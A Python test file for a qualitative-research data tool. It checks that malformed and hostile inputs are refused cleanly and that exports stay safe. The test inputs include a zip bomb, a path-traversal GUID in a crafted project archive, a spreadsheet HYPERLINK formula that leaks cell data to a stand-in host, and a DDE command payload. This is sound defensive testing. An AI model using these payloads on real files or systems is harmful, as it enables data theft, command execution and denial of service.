"""Every file of tests/bad_inputs/ (and the large ones made here) through the command a
researcher would use, in the command line and in the app: a clear message naming the
file and the place, the project exactly as before when the file is refused, and a
project that still opens and works afterwards."""

from __future__ import annotations

import json
import re
import sqlite3
import wave
import zipfile
from pathlib import Path

import numpy as np
import pytest
import yaml
from click.testing import CliRunner

import qda
from qda.audio import SAMPLE_RATE, load_audio
from qda.cli import main
from tests.conftest import RECORDINGS, REPO, shown
from tests.test_audio import _wav_bytes, encode

pytestmark = pytest.mark.slow  # a 3-hour recording, 100,000 participants, the app

BAD = REPO / "tests" / "bad_inputs"
CASES: dict[str, dict] = yaml.safe_load((BAD / "cases.yaml").read_text(encoding="utf-8"))


def _speech() -> np.ndarray:
    return load_audio(RECORDINGS / "P15_lorraine.opus").samples[: 8 * SAMPLE_RATE]


def _three_hours(path: Path) -> None:
    """A real 3-hour WAV (8 kHz, 16 bit: 173 MB), written a minute at a time."""
    rate = 8000
    minute = (0.2 * np.sin(2 * np.pi * 220 * np.arange(60 * rate) / rate) * 32767).astype(np.int16)
    with wave.open(str(path), "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(rate)
        for _ in range(180):
            w.writeframes(minute.tobytes())


def _participants(path: Path, n: int) -> None:
    lines = ["participant_id,pseudonym,stakeholder_group,site"]
    lines += [f"X{i:06d},Person {i},beneficiaries,Leeds" for i in range(n)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def _zip_bomb(path: Path) -> None:
    with zipfile.ZipFile(BAD / "qdpx" / "missing_source.qdpx") as z:
        qde = z.read("project.qde")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("project.qde", qde)
        out.writestr("sources/bomb.txt", b"\0" * 60_000_000)  # 60 MB in about 60 kB


QDPX_TEXT = "Anna: I never know which button to press.\nInterviewer: Why not?\n"


def crafted_qdpx(path: Path, variant: str) -> None:
    """A small REFI-QDA project made to break an importer in one way: `damaged_member`,
    `extension_list`, `unknown_role`, `year_one`, `guid_escape` or `no_group` (a case
    P01 without the group variable)."""
    guid = "/../../zz" if variant == "guid_escape" else "4F5C0D2E-9A61-4B7C-8D3E-2A1B0C9D8E7F"
    created = "0001-01-01T00:00:00+05:00" if variant == "year_one" else "2026-03-02T10:00:00Z"
    group = (
        ""
        if variant == "no_group"
        else '<VariableValue><VariableRef targetGUID="A1B2C3D4-0000-4000-8000-000000000001"/>'
        "<TextValue>beneficiaries</TextValue></VariableValue>"
    )
    qde = f"""<?xml version="1.0" encoding="utf-8"?>
<Project xmlns="urn:QDA-XML:project:1.0" name="Crafted" origin="a test">
  <Users><User guid="A1B2C3D4-0000-4000-8000-0000000000A0" name="anna"/></Users>
  <CodeBook><Codes>
    <Code guid="A1B2C3D4-0000-4000-8000-0000000000C0" name="Crafted theme" isCodable="true"/>
  </Codes></CodeBook>
  <Variables>
    <Variable guid="A1B2C3D4-0000-4000-8000-000000000001" name="Stakeholder group"
              typeOfVariable="Text"/>
  </Variables>
  <Cases><Case guid="A1B2C3D4-0000-4000-8000-0000000000B0" name="P01">{group}
    <SourceRef targetGUID="{guid}"/></Case></Cases>
  <Sources>
    <AudioSource guid="A1B2C3D4-0000-4000-8000-0000000000D0" name="P01 crafted"
                 path="internal://recording.opus">
      <Transcript guid="{guid}" name="P01 crafted" plainTextPath="internal://text.txt">
        <SyncPoint guid="A1B2C3D4-0000-4000-8000-0000000000E0" timeStamp="0" position="0"/>
        <PlainTextSelection guid="A1B2C3D4-0000-4000-8000-0000000000F0"
                            startPosition="0" endPosition="41"
                            creatingUser="A1B2C3D4-0000-4000-8000-0000000000A0"
                            creationDateTime="{created}">
          <Coding guid="A1B2C3D4-0000-4000-8000-0000000000F1"
                  creatingUser="A1B2C3D4-0000-4000-8000-0000000000A0"
                  creationDateTime="{created}">
            <CodeRef targetGUID="A1B2C3D4-0000-4000-8000-0000000000C0"/>
          </Coding>
        </PlainTextSelection>
      </Transcript>
    </AudioSource>
  </Sources>
</Project>
"""
    segments = [
        {"speaker": "Anna", "role": "boss" if variant == "unknown_role" else "participant",
         "start": 0.0, "end": 2.0, "text": "I never know which button to press.",
         "original_text": None, "words": []},
        {"speaker": "Interviewer", "role": "interviewer", "start": 2.0, "end": 3.0,
         "text": "Why not?", "original_text": None, "words": []},
    ]  # fmt: skip
    entry = {"interview_id": "P01-crafted", "participant_id": "P01", "title": "", "language": "en",
             "status": "imported", "source_name": "crafted.opus", "duration_s": 3.0,
             "segments": segments, "coding_origins": {}}  # fmt: skip
    extension = [] if variant == "extension_list" else {guid.upper(): entry}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("project.qde", qde)
        z.writestr("sources/text.txt", QDPX_TEXT)
        z.writestr("sources/recording.opus", b"OggS" + bytes(range(256)) * 8)
        z.writestr("qda/interviews.json", json.dumps(extension))
    if variant == "damaged_member":
        data = bytearray(path.read_bytes())
        start = data.find(b"project.qde") + len("project.qde") + 40
        data[start : start + 30] = bytes(30)  # the compressed text of project.qde
        path.write_bytes(bytes(data))


def generate(name: str, path: Path) -> None:
    """Make the generated file `name` at `path`."""
    if name == "audio/truncated.wav":
        path.write_bytes(_wav_bytes(_speech())[: 44 + 2 * int(2.7 * SAMPLE_RATE)])
    elif name == "audio/cut_off.m4a":
        whole = encode(_speech(), path.with_suffix(".whole.m4a"), "aac").read_bytes()
        path.write_bytes(whole[: len(whole) // 2])
    elif name == "audio/video_without_audio.mp4":
        encode(None, path, "aac", video=True)
    elif name == "audio/clip_0.1s.wav":
        path.write_bytes(
            _wav_bytes(_speech()[2 * SAMPLE_RATE : 2 * SAMPLE_RATE + SAMPLE_RATE // 10])
        )
    elif name == "audio/silence.wav":
        path.write_bytes(_wav_bytes(np.zeros(5 * SAMPLE_RATE, np.float32)))
    elif name == "audio/three_hours.wav":
        _three_hours(path)
    elif name == "audio/too_big.wav":
        path.write_bytes(_wav_bytes(np.tile(_speech(), 12)[: 95 * SAMPLE_RATE]))  # 3 MB
    elif name == "csv/100000_rows.csv":
        _participants(path, 100_000)
    elif name == "csv/100001_rows.csv":
        _participants(path, 100_001)
    elif name == "csv/huge.csv":
        _participants(path, 900_000)  # 37 bytes a row: 33 MB
        with path.open("ab") as f:
            f.write(b"X,filler," + b"x" * 20_000_000 + b"\n")
    elif name == "csv/200001_codings.csv":
        rows = "".join(f"P01,{1 + k % 5},Access barriers,coder{k}\n" for k in range(200_001))
        path.write_text("interview,turn,code,coder\n" + rows)
    elif name == "csv/huge_cell.csv":
        path.write_text("participant_id,stakeholder_group,note\nP46,beneficiaries," + "x" * 200_000)
    elif name == "codebooks/nested_350_block.yaml":
        path.write_text(
            "codes:\n"
            + "".join("  " * i + f"- name: c{i}\n" + "  " * i + "  children:\n" for i in range(350))
        )
    elif name == "codebooks/nested_300.qdc":
        path.write_text(
            '<?xml version="1.0"?><CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>'
            + "".join(f'<Code guid="" name="L{k}" isCodable="true">' for k in range(300))
            + "</Code>" * 300
            + "</Codes></CodeBook>"
        )
    elif name == "codebooks/30000_codes.yaml":
        themes = (
            f"  - name: Theme {t}\n    children:\n"
            + "".join(f"      - name: Code {c}\n        definition: d{c}\n" for c in range(99))
            for t in range(300)
        )
        path.write_text("codes:\n" + "".join(themes))
    elif name.startswith("qdpx/crafted_"):
        crafted_qdpx(path, Path(name).stem.removeprefix("crafted_"))
    elif name == "qdpx/zip_bomb.qdpx":
        _zip_bomb(path)
    else:
        raise AssertionError(f"no generator for {name}")


def command(name: str, path: Path, project: Path) -> list[str]:
    folder = name.split("/")[0]
    if folder == "audio":
        return ["transcribe", str(path), "--project", str(project), "--participant", "P01",
                "--no-wait"]  # fmt: skip
    if folder == "csv":
        kind = "import-codings" if "codings" in name else "import-participants"
        return [kind, str(project), str(path)]
    if folder == "codebooks":
        return ["import-codebook", str(project), str(path)]
    if folder == "transcripts":
        return ["import-transcripts", str(project), str(path)]
    return ["import-qdpx", str(path), str(project)]


def snapshot(project: Path) -> tuple[str, dict[str, int]]:
    """Everything in the database (as SQL) and every other file of the project folder."""
    with sqlite3.connect(project / "project.sqlite") as conn:
        dump = "\n".join(conn.iterdump())
    conn.close()
    files = {
        str(p.relative_to(project)): p.stat().st_size
        for p in project.rglob("*")
        if p.is_file() and not p.name.startswith("project.sqlite") and p.suffix != ".lock"
    }
    return dump, files


def the_file(name: str, tmp_path: Path) -> Path:
    if not CASES[name].get("generated"):
        return BAD / name
    path = tmp_path / Path(name).name
    generate(name, path)
    return path


def test_the_corpus_lists_every_file_and_every_file_is_listed():
    stored = {str(p.relative_to(BAD)) for p in BAD.rglob("*") if p.is_file()} - {
        "cases.yaml",
        "README.md",
    }
    listed = {name for name, case in CASES.items() if not case.get("generated")}
    assert stored == listed
    assert all(case["outcome"] in ("refused", "accepted") for case in CASES.values())
    assert len(CASES) >= 25


@pytest.mark.parametrize("name", list(CASES))
def test_a_bad_input_gets_a_clear_message_and_changes_nothing(name, demo_copy, tmp_path):
    case = CASES[name]
    path = the_file(name, tmp_path)
    before = snapshot(demo_copy)
    env = {key: str(value) for key, value in case.get("env", {}).items()}
    result = CliRunner().invoke(main, command(name, path, demo_copy), env=env)
    output = result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), output
    assert result.exit_code == (1 if case["outcome"] == "refused" else 0), output
    for words in case["says"]:
        assert words in output, f"{name}: expected {words!r} in:\n{output}"
    if case["outcome"] == "refused":
        assert output.startswith("error: "), output
        assert "Traceback" not in output
        assert snapshot(demo_copy) == before
    # the project still opens and works: read it, and change it
    result = CliRunner().invoke(main, ["info", str(demo_copy)])
    assert result.exit_code == 0 and "participants" in result.output
    project = qda.open_project(demo_copy)
    code = project.add_code(f"After {Path(name).name}", by="tester")
    project.apply_code(project.segments("P01")[1].id, code.id, coder="tester")
    project.close()


def test_accepted_odd_files_are_read_right(demo_copy):
    def imported(name: str) -> dict[str, qda.Participant]:
        result = CliRunner().invoke(main, ["import-participants", str(demo_copy), str(BAD / name)])
        assert result.exit_code == 0, result.output
        return {p.id: p for p in qda.open_project(demo_copy).participants}

    people = imported("csv/latin1.csv")
    assert people["P30"].pseudonym == "Renée" and people["P31"].pseudonym == "Søren"
    people = imported("csv/utf8_bom.csv")  # the BOM is not part of the first column's name
    assert people["P32"].pseudonym == "Amélie" and people["P32"].attributes["site"] == "Lille"
    people = imported("csv/formula_cells.csv")  # stored exactly as written: it is data
    assert people["P33"].pseudonym.startswith('=HYPERLINK("http://example.invalid')
    assert people["P34"].stakeholder_group == "-frontline staff"
    assert people["P34"].attributes["site"] == "=1+1"


def test_formula_like_text_never_becomes_a_formula_in_exports(demo_copy, tmp_path):
    """A pseudonym, group, code name or quote starting with = + - @ stays text in every
    spreadsheet qda writes (CSV injection)."""
    from openpyxl import load_workbook

    from qda.models import Participant

    project = qda.open_project(demo_copy)
    p01 = project.participant("P01")
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    project.save_participant(Participant("P01", "=1+1", evil, dict(p01.attributes)))
    segment = project.segments("P01")[1]
    project.edit_segment(segment.id, "@SUM(A1:A9) is what I said", by="tester")
    code = project.add_code("+Urgent", by="tester")
    project.apply_code(segment.id, code.id, coder="tester")
    project.close()

    out = tmp_path / "t.xlsx"
    result = CliRunner().invoke(main, ["crosstab", str(demo_copy), "--format", "xlsx", "-o", out])
    assert result.exit_code == 0, result.output
    book = load_workbook(out)
    texts = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert any(c.value == "=1+1" for c in texts)  # the group, as a column header
    assert any(c.value.startswith("@SUM") for c in texts)  # the quote
    assert all(c.data_type != "f" for c in texts)
    result = CliRunner().invoke(main, ["crosstab", str(demo_copy), "--format", "csv"])
    lines = result.output.splitlines()
    assert "'=1+1" in lines[0] and "=1+1" not in lines[0].replace("'=1+1", "")
    assert not any(cell.startswith(("=", "+", "@")) for line in lines for cell in line.split(","))


def test_the_app_says_what_is_wrong_and_keeps_working(demo_copy, monkeypatch):
    """The same files through the app's uploaders: an error naming the file and place,
    no exception, the project as before, and the pages still work."""
    import streamlit as st
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("QDA_PROJECT", str(demo_copy))
    monkeypatch.setenv("QDA_USER", "anna")
    st.cache_resource.clear()
    uploads = {
        "csv/missing_columns.csv": ("up_participants", "do_participants"),
        "csv/duplicate_ids.csv": ("up_participants", "do_participants"),
        "transcripts/P01_bad_times.vtt": ("up_transcripts", None),  # shown in the preview
        "codebooks/malformed.yaml": ("up_codebook", "do_codebook"),
        "codebooks/parent_cycle.yaml": ("up_codebook", "do_codebook"),
        "csv/wrong_codings.csv": ("up_codings", "do_codings"),
        "qdpx/path_escape.qdpx": ("up_qdpx", None),  # refused as soon as it is read
    }
    before = snapshot(demo_copy)
    for name, (uploader, button) in uploads.items():
        at = AppTest.from_file(str(REPO / "app.py"), default_timeout=60)
        at.run()
        data = (BAD / name).read_bytes()
        upload = (Path(name).name, data, "application/octet-stream")
        value = [upload] if uploader == "up_transcripts" else upload
        at.file_uploader(key=uploader).set_value(value).run()
        if button:
            at.button(key=button).click().run()
        assert not at.exception, (name, at.exception)
        errors = "\n".join(shown(e.value) for e in at.error)
        assert Path(name).name in errors, (name, errors)
        assert CASES[name]["says"][0].split(": ", 1)[-1][:40] in errors, (name, errors)
        assert snapshot(demo_copy) == before, name
    # afterwards every page still renders on the same project
    at = AppTest.from_file(str(REPO / "app.py"), default_timeout=60)
    at.run()
    assert not at.exception and at.title[0].value.startswith("Digital by default?")
    st.cache_resource.clear()


def test_the_app_refuses_bad_recordings_and_adds_the_good_one(demo_copy, monkeypatch, tmp_path):
    import streamlit as st
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("QDA_PROJECT", str(demo_copy))
    monkeypatch.setenv("QDA_USER", "anna")
    monkeypatch.setenv("QDA_WORKER", "off")
    st.cache_resource.clear()
    at = AppTest.from_file(str(REPO / "app.py"), default_timeout=60)
    at.run()
    at.switch_page("qda/ui/views/upload.py").run()
    files = [
        ("empty.mp3", b"", "audio/mpeg"),
        ("random_bytes.mp3", (BAD / "audio" / "random_bytes.mp3").read_bytes(), "audio/mpeg"),
        ("P15_lorraine.opus", (RECORDINGS / "P15_lorraine.opus").read_bytes(), "audio/ogg"),
    ]
    at.file_uploader(key="up_audio").set_value(files).run()
    for n in range(3):
        at.selectbox(key=f"rec_participant_{n}").set_value("P15")
    at.button(key="start_transcription").click().run()
    assert not at.exception, at.exception
    errors = "\n".join(shown(e.value) for e in at.error)
    assert "empty.mp3 was not added: empty.mp3: the file is empty" in errors
    assert "random_bytes.mp3 was not added: random_bytes.mp3: not an audio" in errors
    project = qda.open_project(demo_copy)
    added = [i for i in project.interviews if i.source_name.endswith((".mp3", ".opus"))]
    assert [i.source_name for i in added] == ["P15_lorraine.opus"]
    assert sorted(p.name for p in (demo_copy / "media").iterdir()) == [added[0].media_file[6:]]
    st.cache_resource.clear()


def test_hostile_text_comes_out_as_text_in_every_export(demo_copy, tmp_path):
    """Markdown, HTML, a table bar, a formula and control characters in a group, a
    pseudonym, a code (name and id) and a quote: every file qda writes keeps them as
    text, and every XML file (XLSX, DOCX, .qdc, .qdpx) stays valid."""
    import zipfile

    from lxml import etree

    from qda.models import Code, Participant

    project = qda.open_project(demo_copy)
    group = "a|b <i>x</i>\nnext"
    project.save_participant(Participant("P01", group, "![t](http://203.0.113.9/t.png)", {}))
    segment = project.segments("P01")[1]
    project.edit_segment(segment.id, "I said \x1b[31m| no \x00 more | ![x](http://h/x)", by="t")
    code = project.save_code(Code(id="=cmd|' /C calc'!A0", name="Pipe | <b>code<b>"), by="t")
    project.apply_code(segment.id, code.id, coder="t")
    project.close()

    def run(*args: str) -> None:
        result = CliRunner().invoke(main, [*args])
        assert result.exit_code == 0 and "Traceback" not in result.output, result.output

    for fmt in ("md", "xlsx", "docx", "csv"):
        run("crosstab", str(demo_copy), "--format", fmt, "-o", str(tmp_path / f"t.{fmt}"))
    markdown = (tmp_path / "t.md").read_text()
    header = next(line for line in markdown.splitlines() if line.startswith("| code |"))
    rule = next(line for line in markdown.splitlines() if line.startswith("|---|"))
    unescaped_bars = len(re.findall(r"(?<!\\)\|", header))
    assert unescaped_bars == rule.count("|")  # the group's bar does not add a column
    assert "<i>" not in markdown and "\\<i\\>x\\</i\\>" in markdown
    run(
        "export-transcript",
        str(demo_copy),
        "P01",
        "--format",
        "docx",
        "-o",
        str(tmp_path / "P01.docx"),
    )
    run("codebook", "export", str(demo_copy), str(tmp_path / "c.csv"))
    run("codebook", "export", str(demo_copy), str(tmp_path / "c.qdc"))
    run("export-qdpx", str(demo_copy), str(tmp_path / "p.qdpx"))
    codebook_csv = (tmp_path / "c.csv").read_text()
    assert "'=cmd|' /C calc'!A0" in codebook_csv  # the id cannot run as a formula either
    etree.fromstring((tmp_path / "c.qdc").read_bytes())
    for name in ("t.xlsx", "t.docx", "P01.docx", "p.qdpx"):
        with zipfile.ZipFile(tmp_path / name) as archive:
            for member in archive.namelist():
                if member.endswith((".xml", ".qde")):
                    data = archive.read(member)
                    etree.fromstring(data)  # well-formed
                    assert b"\x1b" not in data and b"\x00" not in data, (name, member)
    from docx import Document

    text = "\n".join(p.text for p in Document(tmp_path / "P01.docx").paragraphs)
    assert "I said [31m| no  more | ![x](http://h/x)" in text


def test_a_crafted_qdpx_keeps_media_inside_the_project_and_groups_it_does_not_name(
    demo_copy, tmp_path
):
    before = {p.id: p.stakeholder_group for p in qda.open_project(demo_copy).participants}
    for variant in ("guid_escape", "no_group"):
        path = tmp_path / f"{variant}.qdpx"
        crafted_qdpx(path, variant)
        result = CliRunner().invoke(main, ["import-qdpx", str(path), str(demo_copy)])
        assert result.exit_code == 0, result.output
    project = qda.open_project(demo_copy)
    assert project.participant("P01").stakeholder_group == before["P01"]  # not "(no group)"
    media = (demo_copy / "media").resolve()
    for interview in project.interviews:
        if interview.media_file:
            path = project.media_path(interview).resolve()
            assert path.is_relative_to(media) and path.exists(), path
    assert not list(tmp_path.parent.glob("zz*")) and not (demo_copy.parent / "zz").exists()
